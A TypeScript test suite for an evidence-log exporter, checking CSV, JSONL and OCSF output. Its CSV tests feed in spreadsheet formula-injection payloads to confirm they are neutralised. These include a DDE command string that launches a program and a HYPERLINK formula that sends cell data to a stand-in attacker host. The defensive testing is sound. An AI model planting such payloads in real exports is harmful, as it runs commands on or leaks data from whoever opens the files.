import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { type EventBody, eventBodySchema, VERBS } from '../../lib/evidence/event.schema.ts';
import { BOM, CSV_COLUMNS, csvCell, csvHead, csvLine } from '../../lib/evidence/formats/csv.ts';
import type { Exported } from '../../lib/evidence/formats/exported.ts';
import { jsonLine } from '../../lib/evidence/formats/jsonl.ts';
import { ocsfEvent } from '../../lib/evidence/formats/ocsf.ts';

const body = (change: Partial<EventBody> = {}): EventBody =>
  eventBodySchema.parse({
    ...{
      v: 1,
      id: '01939f00-0000-7000-8000-000000000001',
      at: '2026-11-20T08:00:00.000Z',
      verb: 'fill.done',
      outcome: 'success',
    },
    actor: { technician: 'mkruse', version: 3, device: 'dev-1' },
    client: { id: 'fabrikam', version: 1 },
    object: { type: 'account', key: 'jade@fabrikam.example', purpose: 'admin' },
    ...change,
  });
const exported = (change: Partial<EventBody> = {}): Exported => ({
  ...{
    log: 'unswivel-1',
    index: 7,
    leafHash: 'a'.repeat(64),
    device: 'dev-1',
    seq: 3,
    receivedAt: '2026-11-20T08:00:01.000Z',
  },
  ...{ body: body(change), why: null, story: 'Mara Kruse filled 1 field' },
});
const erased: Exported = { ...exported(), body: null, why: 'erased', story: 'Erased' };

describe('CSV', () => {
  it('keeps its columns, whatever the event holds', () => {
    for (const event of [
      exported(),
      exported({ fields: [{ attribute: 'title', to: 'a "b",\r\nc' }], detail: { a: 1 } }),
      erased,
    ]) {
      const [head, row] = parse(BOM + csvHead() + csvLine(event), { bom: true }) as string[][];
      expect(head).toEqual(CSV_COLUMNS);
      expect(row).toHaveLength(CSV_COLUMNS.length);
    }
  });

  it('gives back every text as it was, but for what would begin a formula', () => {
    const texts = ['plain', 'a "quoted" one', 'line\nline', 'semi;colon', 'Köln 漢字 🙂', '', ' blank', "O'Brien"];
    const line = `${texts.map(csvCell).join(',')}\r\n`;
    expect((parse(line) as string[][])[0]).toEqual(texts);
  });

  it.each([
    "=cmd|'/c calc'!A1",
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    ' =1',
    '\u200b=1',
    '\ufeff=1',
    '\u00a0@x',
    '＝1',
    '\u2060-1',
    '\u202e=1',
    '\u00ad@x',
    '\u0001=1',
    '\u3164+1',
  ])('lets no spreadsheet take %j for a formula', (text) => {
    const [cell] = (parse(`${csvCell(text)}\r\n`) as string[][])[0] as [string];
    expect(cell).toBe(`'${text}`);
  });

  it.each([
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['a";=2+2', `a";'=2+2`],
    ['a; \u200b"@x', `a;' \u200b"@x`],
    ['a\r\n-1', "a\r'\n'-1"],
    ['x;\u115f=1', "x;'\u115f=1"],
    ['plain; text\nmore = less', 'plain; text\nmore = less'],
  ])('lets none take the inside of %j for one, whatever it reads between cells', (text, cell) => {
    expect((parse(`${csvCell(text)}\r\n`) as string[][])[0]).toEqual([cell]);
    // read with semicolons, where our quotes are text
    for (const one of csvCell(text).split(/[;\t\r\n]/)) expect(one).not.toMatch(/^[\s\u200b"]*[=+\-@]/);
  });

  it('looks at each character once, whatever a page held', () => {
    const lines = '\n'.repeat(200_000);
    const began = performance.now();
    expect(csvCell(lines)).toBe(`"'${lines}"`);
    expect(csvCell(`${lines}x`)).toBe(`"'${lines}x"`);
    expect(performance.now() - began).toBeLessThan(5000);
  });

  it('has no formula in any cell of an event made of formulas (attack 42)', () => {
    const evil = '=HYPERLINK("http://evil.example?"&A1)';
    const event = {
      ...exported({
        code: evil,
        object: { type: evil, key: evil },
        ticket: { console: 'rt', number: evil },
        subject: { ticketPerson: evil },
        console: { id: 'x', profile: null, tenant: evil, signedInAs: evil },
      }),
      story: evil,
    };
    for (const cell of (parse(csvLine(event)) as string[][])[0] as string[]) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });
});

describe('JSONL', () => {
  it('is one object a line with the same keys always', () => {
    const keys = [exported(), erased].map((event) => Object.keys(JSON.parse(jsonLine(event))));
    expect(keys[0]).toEqual(keys[1]);
    expect(jsonLine(exported({ code: 'a\nb' })).match(/\n/g)).toHaveLength(1);
  });
});

/** What ocsf/ocsf-schema, tag v1.1.0, asks of the four classes: required attributes, their types, the activities each knows. */
const int = z.int();
const user = z
  .strictObject({
    uid: z.string().optional(),
    name: z.string().optional(),
    type_id: z.union([z.literal(0), z.literal(1), z.literal(2), z.literal(3), z.literal(99)]),
  })
  .refine((one) => one.uid ?? one.name);
const endpoint = z.strictObject({ uid: z.string(), name: z.string() });
const base = {
  ...{
    category_uid: int,
    class_uid: int,
    type_uid: int,
    activity_name: z.string().min(1),
    time: int.positive(),
    message: z.string(),
  },
  ...{
    severity_id: z.union([0, 1, 2, 3, 4, 5, 6, 99].map((one) => z.literal(one))),
    status_id: z.union([0, 1, 2, 99].map((one) => z.literal(one))),
  },
  ...{ status: z.string(), status_code: z.string().optional(), unmapped: z.record(z.string(), z.unknown()) },
  metadata: z.strictObject({
    ...{
      version: z.enum(['1.1.0', '1.5.0']),
      product: z.strictObject({ name: z.string(), vendor_name: z.string() }),
      uid: z.string(),
    },
    ...{
      event_code: z.string(),
      log_name: z.string(),
      sequence: int,
      original_time: z.string(),
      logged_time: int,
      correlation_uid: z.string().optional(),
    },
  }),
};
const activities = (...ids: number[]) => z.union([0, 99, ...ids].map((one) => z.literal(one)));
const actor = z.strictObject({ user });
const CLASSES = z.discriminatedUnion('class_uid', [
  z.strictObject({
    ...base,
    class_uid: z.literal(3001),
    activity_id: activities(1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11),
    actor,
    user,
    src_endpoint: endpoint,
  }),
  z.strictObject({
    ...base,
    class_uid: z.literal(3002),
    activity_id: activities(1, 2, 3, 4, 5),
    actor,
    user,
    src_endpoint: endpoint,
    service: endpoint,
  }),
  z.strictObject({
    ...base,
    class_uid: z.literal(3004),
    activity_id: activities(1, 2, 3, 4),
    actor,
    entity: z.strictObject({ uid: z.string(), type: z.string() }),
  }),
  z.strictObject({
    ...{ ...base, class_uid: z.literal(6003), activity_id: activities(1, 2, 3, 4), actor, src_endpoint: endpoint },
    api: z.strictObject({ operation: z.string(), service: z.strictObject({ name: z.string() }) }),
    resources: z.array(z.strictObject({ uid: z.string(), type: z.string() })),
  }),
]);

describe('OCSF', () => {
  it.each(VERBS.map((verb) => [verb]))('says %s in a class and activity that 1.1 has', (verb) => {
    for (const change of [undefined, 'added', 'removed', 'changed'])
      for (const object of [undefined, { type: 'account', key: 'a' }, { type: 'client', key: 'b' }]) {
        const event = CLASSES.parse(ocsfEvent(exported({ verb, object, ...(change ? { detail: { change } } : {}) })));
        expect(event.type_uid).toBe(event.class_uid * 100 + event.activity_id);
        expect(event.category_uid).toBe(Math.floor(event.class_uid / 1000));
      }
  });

  it('tells what was done to an account as what it was', () => {
    const activity = (does: string) => ocsfEvent(exported({ verb: 'action.performed', detail: { does } }))?.type_uid;
    expect(['disable', 'enable', 'reset-password', 'delete', 'dance'].map(activity)).toEqual([
      300105, 300102, 300104, 300106, 300199,
    ]);
    expect(ocsfEvent(exported({ verb: 'session.begun', outcome: 'refused' }))).toMatchObject({
      type_uid: 300201,
      status_id: 2,
    });
  });

  it('leaves nothing out: what has no place stands under unmapped, with the proof', () => {
    const ticket = { console: 'rt', number: '17' };
    expect(ocsfEvent(exported({ ticket }), '1.5.0')).toMatchObject({
      metadata: { version: '1.5.0', sequence: 7 },
      unmapped: { ticket, client: { id: 'fabrikam' }, proof: { index: 7, leaf_hash: 'a'.repeat(64) } },
    });
    expect(ocsfEvent(erased)).toBeNull();
  });
});
